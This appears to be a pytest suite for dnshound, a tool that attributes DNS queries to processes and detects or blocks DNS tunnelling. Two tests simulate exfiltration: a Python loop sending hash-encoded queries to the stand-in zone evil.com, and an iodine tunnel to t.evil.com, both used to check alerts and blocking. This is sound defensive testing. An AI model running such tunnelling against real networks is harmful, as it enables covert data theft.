# SPDX-License-Identifier: ISC
"""dnshound run: what reaches the name server is in the events, by the right process, and the
application does not notice. Each application runs in network namespaces of its own (run/lab.py)."""
import base64
import collections
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import subprocess
import threading
import time

import pytest

from conftest import ROOT, is_running

HERE = pathlib.Path(__file__).parent / "run"
PROGRAM = pathlib.Path(os.environ.get("DNSHOUND", ROOT / "build" / "app" / "dnshound"))

JAVA = """import java.net.*; public class Asks { public static void main(String[] a) throws Exception
{ System.out.println(InetAddress.getByName("java.example.com")); System.exit(5); } }"""
GO = """package main
import ("fmt"; "net"; "os")
func main() { for i := 0; i < 3; i++ { a, e := net.LookupHost(fmt.Sprintf("go%d.example.com", i))
 fmt.Println(a, e) }; os.Exit(6) }"""
SCRIPT = """for i in 1 2 3; do getent hosts sh$i.example.com & wait $!; done
(dig +short sub.example.com) | cat; exit 9"""


@pytest.fixture(scope="module")
def programs(tmp_path_factory):
    """The test programs, built; a missing compiler leaves its own out."""
    folder = tmp_path_factory.mktemp("programs")
    if not shutil.which("cc"):
        pytest.skip("needs a C compiler")
    source = HERE / "asks.c"
    for name, flags in (("asks", []), ("asks-static", ["-static"])):
        subprocess.run(["cc", "-w", "-O1", "-D_GNU_SOURCE", *flags, "-o", folder / name, source, "-lresolv",
                        "-lpthread"], check=True, capture_output=True)
    if shutil.which("javac"):
        (folder / "Asks.java").write_text(JAVA)
        subprocess.run(["javac", "Asks.java"], cwd=folder, check=True, capture_output=True)
    if shutil.which("go"):
        (folder / "asks.go").write_text(GO)
        subprocess.run(["go", "build", "-o", "asks-go", "asks.go"], cwd=folder, check=True,
                       capture_output=True,
                       env={**os.environ, "CGO_ENABLED": "0", "HOME": str(folder)})
    (folder / "script.sh").write_text(SCRIPT)
    folder.chmod(0o755)
    return folder


@pytest.fixture
def lab(namespaces, programs, tmp_path):
    """lab(command, options...) gives (result, events); without options: not watched."""
    def run(command, options=None, timeout=40, prefix=()):
        command = [re.sub(r"(?<!\$)@", f"{programs}/", str(word)) for word in command]
        events = tmp_path / "events.json"
        events.unlink(missing_ok=True)
        if options is not None:
            command = [*prefix, str(PROGRAM), "run", *options, "--json", "-o", str(events), "--",
                       *command]
        ended = subprocess.run(["/usr/bin/python3", HERE / "lab.py", str(timeout), *command],
                               capture_output=True, text=True, timeout=timeout + 20, cwd=programs)
        assert ended.returncode == 0, ended.stderr
        result = json.loads(ended.stdout)
        result["out"] = base64.b64decode(result["out"])
        result["err"] = base64.b64decode(result["err"])
        lines = []
        if options is not None:
            lines = [json.loads(line) for line in events.read_text().splitlines()
                     if line.startswith("{")]
        return result, lines

    return run


def text_of(wire):
    labels, at = [], 0
    while wire[at]:
        label = wire[at + 1:at + 1 + wire[at]]
        labels.append("".join(
            "\\" + chr(c) if chr(c) in ".\\" else chr(c) if 0x20 < c < 0x7f else f"\\{c:03d}"
            for c in label))
        at += 1 + wire[at]
    return ".".join(labels)


def on_the_wire(result):
    return collections.Counter((text_of(bytes.fromhex(q["wire"])), q["id"]) for q in result["seen"])


def in_events(lines, mechanism="syscall"):
    return collections.Counter((e["qname"], e.get("id")) for e in lines
                               if e["type"] == "agent.dns" and e["direction"] == "query"
                               and e["mechanism"] == mechanism)


def end_of(lines):
    return next(e for e in lines if e["type"] == "agent.end")


def steady(output):
    """Output without what no two runs share: pids and times."""
    output = re.sub(rb"pid \d+", b"pid", output)
    return re.sub(rb"(time|mdev)[ =][^\n]*", b"", output)


APPS = {
    "curl": (["curl", "-s", "http://curl.example.com:1/"], "curl"),
    "dig": (["dig", "+short", "dig.example.com"], "dig"),
    "dig-tcp": (["dig", "+tcp", "+short", "digtcp.example.com", "TXT"], "dig"),
    "ping": (["ping", "-c1", "-W1", "ping.example.com"], "ping"),
    "python": (["/usr/bin/python3", "-c",
                "import socket; print(socket.gethostbyname('py.example.com'))"], "python3"),
    "node-lookup": (["node", "-e", "require('dns').lookup('nl.example.com', console.log)"], None),
    "node-resolve": (["node", "-e", "require('dns').resolve4('nr.example.com', console.log)"],
                     None),
    "java": (["java", "-cp", "@", "Asks"], None),
    "static-c": (["@asks-static", "write"], "asks-static"),
    "go": (["@asks-go"], "asks-go"),
    "busybox": (["busybox", "nslookup", "bb.example.com", "127.0.0.1"], "busybox"),
    "threads": (["@asks", "threads"], "asks"),
    "forking-script": (["sh", "@script.sh"], None),
    "getent": (["getent", "ahosts", "ge.example.com"], "getent"),
}


@pytest.mark.parametrize("app", APPS)
def test_every_name_on_the_wire_is_in_the_events_and_the_application_is_as_without(app, lab):
    command, comm = APPS[app]
    if not command[0].startswith("@") and not shutil.which(command[0]):
        pytest.skip(f"{command[0]} is not installed")
    if app == "go" and not shutil.which("go"):
        pytest.skip("go is not installed")
    plain, _ = lab(command)
    watched, lines = lab(command, [])
    assert plain["seen"], "the application asked nothing at all"
    assert on_the_wire(watched) == in_events(lines)
    assert watched["status"] == plain["status"]
    assert steady(watched["out"]) == steady(plain["out"])
    assert steady(watched["err"]) == steady(plain["err"])
    for event in lines:
        if event["type"] == "agent.dns":
            process = event["process"]
            assert process["pid"] > 0 and process["exe"] and process["cmdline"]
            assert comm is None or process["comm"] == comm
    if app == "forking-script":
        assert {e["process"]["comm"] for e in lines if e["type"] == "agent.dns"} == {"getent", "dig"}
    assert end_of(lines)["blind"] == []


def test_the_pid_is_that_of_the_process(lab):
    result, lines = lab(["@asks-static", "write"], [])
    pid = int(re.search(rb"pid (\d+)", result["out"])[1])
    assert [e["process"]["pid"] for e in lines if e["type"] == "agent.dns"] == [pid]


@pytest.mark.parametrize("name", ["a_b", "a+b", "a/b", "a=b", "*", "a\udce9\udcff\udc80b", "a b"],
                         ids=["underscore", "plus", "slash", "equals", "star", "bytes-ge-0x80",
                              "blank"])
def test_blind_spot_closed_names_with(name, lab):
    result, lines = lab(["@asks", "sendto", name], [])
    assert len(on_the_wire(result)) == 1 and on_the_wire(result) == in_events(lines)


@pytest.mark.parametrize("how", ["write", "writev", "sendmsg", "sendmmsg", "sendto", "tcp"])
@pytest.mark.parametrize("program", ["@asks", "@asks-static"])
def test_blind_spot_closed_way_of_sending(how, program, lab):
    result, lines = lab([program, how], [])
    assert result["seen"] and on_the_wire(result) == in_events(lines)
    assert b"answer 5" in result["out"] or b"answer 6" in result["out"]
    transports = {e["transport"] for e in lines if e["type"] == "agent.dns"}
    assert transports == {"tcp" if how == "tcp" else "udp"}


def test_configured_ports_are_dns_too(lab):
    _, lines = lab(["@asks", "port"], [])
    assert not in_events(lines)
    _, lines = lab(["@asks", "port"], ["--port", "5300"])
    assert [e["server_port"] for e in lines if e["type"] == "agent.dns"] == [5300]


def test_more_sockets_than_the_window_holds(lab):
    plain, _ = lab(["@asks", "many"])
    watched, lines = lab(["@asks", "many"], [])
    assert steady(watched["out"]) == steady(plain["out"])
    assert on_the_wire(watched) == in_events(lines)


def test_a_small_limit_of_descriptors(lab):
    for limit in (20, 100):
        result, lines = lab(["sh", "-c", f"ulimit -n {limit}; exec \"$@\"", "-", "@asks", "write"],
                            [])
        assert result["status"] == 7
        result, lines = lab(["@asks", "write"], [], prefix=["sh", "-c",
                            f'ulimit -Sn {limit}; exec "$@"', "-"])
        assert result["status"] == 7
        assert on_the_wire(result) == in_events(lines)


def test_what_cannot_be_followed_is_told(lab):
    _, lines = lab(["@asks", "copied"], [])
    assert end_of(lines)["blind"] == [{"reason": "socket-copied", "count": 1}]
    result, lines = lab(["@asks", "copied"], ["--all-writes"])
    assert on_the_wire(result) == in_events(lines)
    result, lines = lab(["@asks", "uring"], [])
    assert [b["reason"] for b in end_of(lines)["blind"]] == ["io_uring"]


def test_all_forms_of_the_resolver_library_are_seen_by_the_preload_object(lab):
    plain, _ = lab(["@asks", "library"])
    result, lines = lab(["@asks", "library"], ["--no-supervisor"])
    assert steady(result["out"]) == steady(plain["out"]) and result["status"] == plain["status"]
    names = {e["qname"] for e in lines if e["type"] == "agent.dns"}
    assert names == {f"n{i}.example.com" for i in range(1, 12)} | {"1.0.0.10.in-addr.arpa"}
    assert {e["call"] for e in lines if e["type"] == "agent.dns"} == {
        "gethostbyname", "getnameinfo", "res_query", "res_send"}


def test_the_same_question_seen_by_both_counts_once(lab):
    _, lines = lab(["curl", "-s", "http://once.example.com:1/"], [])
    end = end_of(lines)
    assert end["seen_twice"] == 1 and end["names_only"] == 0
    _, lines = lab(["@asks", "library"], [])
    assert not in_events(lines, "preload")
    assert end_of(lines)["seen_twice"] == 12


def test_answers_when_asked_for(lab):
    _, lines = lab(["getent", "hosts", "answer.example.com"], ["--answers"])
    answers = [e for e in lines if e["type"] == "agent.dns" and e["direction"] == "answer"]
    assert "answer.example.com" in {e["qname"] for e in answers}
    assert base64.b64decode(answers[0]["message"])[2] & 0x80


def test_exit_status_and_signals_pass(lab):
    for status in (0, 1, 2, 3, 77, 126, 255):
        assert lab(["sh", "-c", f"exit {status}"], [])[0]["status"] == status
    assert lab(["sh", "-c", "kill -TERM $$"], [])[0]["status"] == -signal.SIGTERM
    assert lab(["no-such-program-at-all"], [])[0]["status"] == 127


def test_a_signal_to_dnshound_reaches_the_application(namespaces):
    child = subprocess.Popen([PROGRAM, "run", "-q", "--", "sh", "-c",
                              "trap 'echo got; exit 4' USR1; echo on; while :; do sleep 0.1; done"],
                             stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    assert child.stdout.readline() == b"on\n"
    child.send_signal(signal.SIGUSR1)
    assert child.communicate(timeout=20)[0] == b"got\n" and child.returncode == 4


def test_an_application_that_is_stopped_and_continued_goes_on(lab):
    script = "(sleep 0.3; kill -CONT $$) & kill -STOP $$; wait; exit 5"
    assert lab(["sh", "-c", script], [])[0]["status"] == 5


@pytest.mark.parametrize("how", ["KILL", "STOP"])
def test_a_dead_or_stopped_supervisor_does_not_hold_the_application_up(how, lab):
    # $PPID of the shell is dnshound; it is let go on after the lookups are through.
    script = f"kill -{how} $PPID; @asks loop 20; getent hosts after.example.com; kill -CONT $PPID"
    begin = time.monotonic()
    result, _ = lab(["sh", "-c", script + " 2>/dev/null; echo end; sleep 0.2"], [], timeout=60)
    took = time.monotonic() - begin
    names = {name for name, _ in on_the_wire(result)}
    if how == "STOP":
        assert b"done 20" in result["out"] and b"end" in result["out"]
    assert "loop.example.com" in names
    assert took < 60


def test_a_killed_supervisor_leaves_an_application_that_ends_well(lab, tmp_path):
    mark = tmp_path / "mark"
    script = (f"(kill -KILL $PPID; @asks loop 50 && true; getent hosts after.example.com; "
              f"echo through > {mark}) &\nwait")
    lab(["sh", "-c", script], [], timeout=60)
    for _ in range(100):
        if mark.exists():
            break
        time.sleep(0.1)
    assert mark.read_text() == "through\n"


def test_a_listener_that_is_away_does_no_harm(lab):
    result, _ = lab(["@asks", "write"], ["--to", "127.0.0.1:1"])
    assert result["status"] == 7 and b"answer" in result["out"]


def test_a_pipe_that_nobody_reads_does_no_harm(namespaces, programs, tmp_path):
    mark = tmp_path / "mark"
    reader, writer = os.pipe()
    child = subprocess.Popen([PROGRAM, "run", "--json", "--", "sh", "-c",
                              f"{programs}/asks loop 3000; echo through > {mark}"],
                             stdout=subprocess.DEVNULL, stderr=writer)
    os.close(writer)
    try:
        for _ in range(300):
            if mark.exists():
                break
            time.sleep(0.1)
        assert mark.read_text() == "through\n"
    finally:
        os.close(reader)
        child.wait(timeout=30)


def test_events_go_to_a_listener_with_the_token_first(namespaces, programs, tmp_path):
    path, token = tmp_path / "listener", tmp_path / "token"
    token.write_text("s3cret\n")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen(1)
    got = []

    def take():
        conn, _ = server.accept()
        with conn.makefile("rb") as stream:
            got.extend(json.loads(line) for line in stream)

    thread = threading.Thread(target=take)
    thread.start()
    ended = subprocess.run([PROGRAM, "run", "-q", "--redact", "--to", f"unix:{path}", "--token-file",
                            token, "--", programs / "asks", "loop", "30"], capture_output=True,
                           timeout=60)
    thread.join(timeout=20)
    assert ended.returncode == 7
    assert got[0]["type"] == "agent.start" and got[0]["token"] == "s3cret"
    queries = [e for e in got if e["type"] == "agent.dns"]
    assert len(queries) == 30 and "cmdline" not in queries[0]["process"]
    assert queries[0]["process"]["parents"][0] == got[0]["pid"]
    assert got[-1]["type"] == "agent.end" and got[-1]["queries"] == 30


def test_block_refuses_what_goes_beyond_the_threshold(lab, programs):
    script = ("import socket, hashlib\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
              "s.connect(('127.0.0.1', 53))\nrefused = 0\nfor i in range(300):\n"
              " h = hashlib.sha256(str(i).encode()).hexdigest()[:60].encode()\n"
              " try: s.send(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([60]) + h + "
              "b'\\4evil\\3com\\0\\0\\x10\\0\\1')\n"
              " except PermissionError: refused += 1\n else: s.recv(999)\nprint(refused)\n")
    command = ["/usr/bin/python3", "-c", script]
    result, lines = lab(command, [])
    assert result["out"] == b"0\n" and len(result["seen"]) == 300
    findings = [e for e in lines if e["type"] == "finding"]
    assert findings[0]["process"]["comm"] == "python3" and findings[0]["zone"] == "evil.com"
    assert any(e["type"] == "agent.alert" for e in lines)
    result, lines = lab(command, ["--block"])
    assert [e["process"]["comm"] for e in lines if e["type"] == "agent.alert"][0] == "python3"
    refused = int(result["out"])
    assert refused > 200 and len(result["seen"]) == 300 - refused
    assert end_of(lines)["blocked"] == refused


def test_a_scope_configuration_is_taken_and_what_is_ignored_is_told(namespaces, programs, tmp_path):
    path, config = tmp_path / "listener", tmp_path / "scope.yml"
    config.write_text(f"""metric: {{enable: false}}
event:
  enable: true
  format: {{type: ndjson, maxeventpersec: 10000}}
  transport: {{type: unix, path: {path}}}
  watch: [{{type: dns, name: .*, field: .*, value: .*}}, {{type: http, name: .*}}]
cribl: {{enable: false}}
""")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen(1)
    ended = subprocess.run([PROGRAM, "run", "--userconfig", config, "--", programs / "asks", "write"],
                           capture_output=True, text=True, timeout=60)
    assert ended.returncode == 7
    for word in ("metric", "event.format", "watch of http", "cribl"):
        assert word in ended.stderr
    conn, _ = server.accept()
    assert b'"type":"agent.start"' in conn.recv(65536)


def test_without_root_and_who_loses_privilege_is_told(lab, programs, tmp_path):
    nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    tmp_path.chmod(0o777)
    for parent in tmp_path.parents:
        if str(parent).startswith("/tmp/"):
            parent.chmod(parent.stat().st_mode | 0o011)
    if subprocess.run([*nobody, "test", "-x", PROGRAM]).returncode:
        pytest.skip("the build folder is not for everybody")
    result, lines = lab(["@asks-static", "write"], [], prefix=nobody)
    assert result["status"] == 7 and on_the_wire(result) == in_events(lines)
    assert lines[1]["process"]["uid"] == 65534
    if subprocess.run(["getcap", shutil.which("ping")], capture_output=True).stdout.strip():
        lab(["ping", "-c1", "nobody.example.com"], [], prefix=nobody)
        assert "runs without its set-user-ID or file capabilities" in (
            tmp_path / "events.json").read_text()


def test_a_thousand_processes_leave_nothing_behind(lab, tmp_path):
    state = tmp_path / "state"
    # $PPID is dnshound: what it holds after 100 processes, and after 1,000.
    script = f"""look() {{ echo $1 $(ls /proc/$PPID/fd | wc -l) \
$(sed -n 's/VmRSS:[^0-9]*//p' /proc/$PPID/status | cut -d' ' -f1) \
$(grep -l '^PPid:.'$PPID'$' /proc/[0-9]*/status 2>/dev/null | xargs grep -l '^State:.Z' | wc -l) \
>> {state}; }}
i=0; while [ $i -lt 1000 ]; do @asks-static write > /dev/null; i=$((i+1))
[ $i = 200 ] && look a; done; look b"""
    result, lines = lab(["sh", "-c", script], [], timeout=120)
    assert len(result["seen"]) == 1000
    assert on_the_wire(result) == in_events(lines)
    (_, fds_a, rss_a, zombies_a), (_, fds_b, rss_b, zombies_b) = [
        line.split() for line in state.read_text().splitlines()]
    assert abs(int(fds_b) - int(fds_a)) < 120  # the table of known processes holds two for each
    assert int(fds_b) < 400
    # KiB. A sanitizer keeps what was freed for a while.
    sanitized = b"__asan_init" in PROGRAM.read_bytes()
    assert int(rss_b) - int(rss_a) < (65536 if sanitized else 4096)
    assert (zombies_a, zombies_b) == ("0", "0")
    for _ in range(20):
        left = subprocess.run(["pgrep", "-x", "dnshound-guard"], capture_output=True, text=True)
        left = [pid for pid in left.stdout.split() if is_running(pid)]
        if not left:
            break
        time.sleep(0.1)
    assert not left


def test_iodine_is_named_before_one_kibibyte_has_left(lab):
    if not shutil.which("iodine"):
        pytest.skip("iodine is not installed")
    result, lines = lab(["timeout", "8", "iodine", "-f", "-P", "x", "-r", "-T", "TXT", "127.0.0.1",
                         "t.evil.com"], [], timeout=30)
    alerts = [e for e in lines if e["type"] == "agent.alert"]
    assert alerts and alerts[0]["process"]["comm"] == "iodine"
    assert alerts[0]["bytes_at_alert"] < 1024
    assert on_the_wire(result) == in_events(lines)
